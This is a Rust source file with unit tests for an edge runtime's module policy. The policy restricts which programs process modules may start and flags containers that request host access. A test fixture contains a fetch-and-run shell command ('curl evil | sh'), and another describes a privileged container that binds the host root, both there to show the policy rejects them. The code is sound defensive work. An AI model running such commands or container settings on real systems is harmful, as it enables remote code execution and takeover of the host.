//! The device's own policy on what modules may run, for devices whose pipelines come
//! from elsewhere (a hub): which programs a process module may start, and whether a
//! container may ask for the host's powers. Off unless configured; a module the policy
//! refuses is a `weir validate` error, so a deployment carrying one fails on the device
//! and is reported, and nothing of it runs.

use std::path::Path;

use serde_json::Value;

use crate::config::ModuleConfig;

/// What modules this runtime lets run.
#[derive(Clone, Debug, Default)]
pub struct ModulePolicy {
    /// The programs a process module may be, as globs on the path (relative ones
    /// resolved against the pipeline's directory); `None` for any.
    commands: Option<Vec<glob::Pattern>>,
    /// Whether a container's `create_options` may not give it the host: privileges,
    /// host paths, the host's namespaces, capabilities, devices.
    deny_host_access: bool,
}

impl ModulePolicy {
    /// Any module runs (the default).
    pub fn permissive() -> ModulePolicy {
        ModulePolicy::default()
    }

    /// Process modules only from `commands` (globs; empty for any), and, with
    /// `deny_host_access`, no container that asks for the host.
    pub fn new(commands: &[String], deny_host_access: bool) -> Result<ModulePolicy, String> {
        let commands = if commands.is_empty() {
            None
        } else {
            Some(
                commands
                    .iter()
                    .map(|glob| {
                        glob::Pattern::new(glob)
                            .map_err(|e| format!("module command `{glob}` is not a glob: {e}"))
                    })
                    .collect::<Result<Vec<_>, _>>()?,
            )
        };
        Ok(ModulePolicy {
            commands,
            deny_host_access,
        })
    }

    /// What the policy refuses in `config`, as (field path, message).
    pub fn problems(&self, config: &ModuleConfig, base_dir: &Path) -> Vec<(String, String)> {
        let mut problems = Vec::new();
        if let (Some(allowed), None, Some(program)) = (
            &self.commands,
            &config.image,
            config.command.as_ref().and_then(|c| c.first()),
        ) {
            let resolved = if program.contains('/') && !program.starts_with('/') {
                base_dir.join(program).display().to_string()
            } else {
                program.clone()
            };
            if !allowed
                .iter()
                .any(|glob| glob.matches(program) || glob.matches(&resolved))
            {
                let globs: Vec<&str> = allowed.iter().map(glob::Pattern::as_str).collect();
                problems.push((
                    "command".to_owned(),
                    format!(
                        "this device runs only the process modules its policy allows \
                         (--module-commands {}), and `{resolved}` is not one of them",
                        globs.join(",")
                    ),
                ));
            }
        }
        if self.deny_host_access && config.image.is_some() {
            for what in host_access(&config.create_options) {
                problems.push((
                    "create_options".to_owned(),
                    format!(
                        "{what}: this device does not let a module's container reach the host \
                         (--deny-module-host-access)"
                    ),
                ));
            }
        }
        problems
    }
}

/// What in `options` (a container create body) gives the container the host.
fn host_access(options: &serde_json::Map<String, Value>) -> Vec<String> {
    let Some(Value::Object(host)) = options.get("HostConfig") else {
        return Vec::new();
    };
    let mut found = Vec::new();
    if host.get("Privileged") == Some(&Value::Bool(true)) {
        found.push("HostConfig.Privileged".to_owned());
    }
    for mode in ["PidMode", "IpcMode", "NetworkMode", "UTSMode", "UsernsMode"] {
        if host.get(mode).and_then(Value::as_str) == Some("host") {
            found.push(format!("HostConfig.{mode}: host"));
        }
    }
    let non_empty = |key: &str| {
        host.get(key)
            .and_then(Value::as_array)
            .is_some_and(|items| !items.is_empty())
    };
    for key in ["CapAdd", "Devices"] {
        if non_empty(key) {
            found.push(format!("HostConfig.{key}"));
        }
    }
    // A bind whose source is a path is the host's file system; a named volume is not.
    if let Some(Value::Array(binds)) = host.get("Binds")
        && binds
            .iter()
            .filter_map(Value::as_str)
            .any(|bind| bind.starts_with('/'))
    {
        found.push("HostConfig.Binds with a host path".to_owned());
    }
    if let Some(Value::Array(mounts)) = host.get("Mounts")
        && mounts
            .iter()
            .any(|mount| mount.get("Type").and_then(Value::as_str) == Some("bind"))
    {
        found.push("HostConfig.Mounts of type bind".to_owned());
    }
    if let Some(Value::Array(options)) = host.get("SecurityOpt")
        && options
            .iter()
            .filter_map(Value::as_str)
            .any(|option| option.contains("unconfined"))
    {
        found.push("HostConfig.SecurityOpt unconfined".to_owned());
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(json: &str) -> ModuleConfig {
        serde_json::from_str(json).unwrap()
    }

    #[test]
    fn the_default_lets_everything_run() {
        let risky =
            config(r#"{"image": "x", "create_options": {"HostConfig": {"Privileged": true}}}"#);
        assert!(
            ModulePolicy::permissive()
                .problems(&risky, Path::new("/p"))
                .is_empty()
        );
    }

    #[test]
    fn only_allowed_commands_run_as_process_modules() {
        let policy =
            ModulePolicy::new(&["/opt/weir/modules/*".into(), "python3".into()], false).unwrap();
        let base = Path::new("/opt/weir/modules");
        for allowed in [
            r#"["./enrich"]"#,
            r#"["/opt/weir/modules/x"]"#,
            r#"["python3", "m.py"]"#,
        ] {
            let module = config(&format!(r#"{{"command": {allowed}}}"#));
            assert!(policy.problems(&module, base).is_empty(), "{allowed}");
        }
        let module = config(r#"{"command": ["/bin/sh", "-c", "curl evil | sh"]}"#);
        let problems = policy.problems(&module, base);
        assert_eq!(problems.len(), 1);
        assert!(problems[0].1.contains("/bin/sh"), "{problems:?}");
        // Containers are not process modules.
        assert!(
            policy
                .problems(&config(r#"{"image": "x"}"#), base)
                .is_empty()
        );
        assert!(ModulePolicy::new(&["[".into()], false).is_err());
    }

    #[test]
    fn host_access_is_named_when_denied() {
        let policy = ModulePolicy::new(&[], true).unwrap();
        let module = config(
            r#"{"image": "x", "create_options": {"HostConfig": {
                "Privileged": true, "PidMode": "host", "CapAdd": ["SYS_ADMIN"],
                "Binds": ["data:/data", "/etc:/host-etc"],
                "Mounts": [{"Type": "bind", "Source": "/", "Target": "/host"}]}}}"#,
        );
        let found: Vec<String> = policy
            .problems(&module, Path::new("/"))
            .into_iter()
            .map(|(_, message)| message)
            .collect();
        assert_eq!(found.len(), 5, "{found:?}");
        let safe = config(
            r#"{"image": "x", "create_options": {"HostConfig": {"Binds": ["data:/data"], "Memory": 1000000}}}"#,
        );
        assert!(policy.problems(&safe, Path::new("/")).is_empty());
    }
}
